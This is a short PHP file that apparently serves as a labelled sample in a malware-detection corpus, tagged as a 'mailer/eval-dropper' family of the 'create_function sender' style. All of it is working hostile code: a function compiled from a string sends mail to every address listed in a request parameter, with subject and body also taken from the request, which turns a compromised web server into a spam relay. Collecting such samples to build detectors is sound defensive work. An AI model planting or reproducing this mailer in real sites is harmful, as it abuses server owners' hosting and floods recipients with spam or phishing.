<?php
// Family: mailer/eval-dropper
// Style: create_function sender
// Trait: anonymous function compiled from a string that calls the send primitive with request arguments
$fn = create_function('$t,$s,$b', 'return mail($t,$s,$b);');
foreach (explode("\n", $_REQUEST['rcpt']) as $t) { echo $fn(trim($t), $_REQUEST['s'], $_REQUEST['b']); }
